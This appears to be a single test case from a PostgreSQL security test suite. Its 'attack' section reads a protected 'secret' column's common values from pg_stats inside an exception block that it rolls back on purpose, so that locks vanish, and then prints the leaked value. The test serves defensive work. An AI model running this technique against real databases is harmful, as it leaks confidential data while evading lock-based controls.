-- Reads pg_stats inside an exception block, whose locks are gone when the block was rolled back.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  BEGIN SELECT most_common_vals::text INTO x FROM pg_stats WHERE tablename = 'vlt_account' AND attname = 'secret';
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
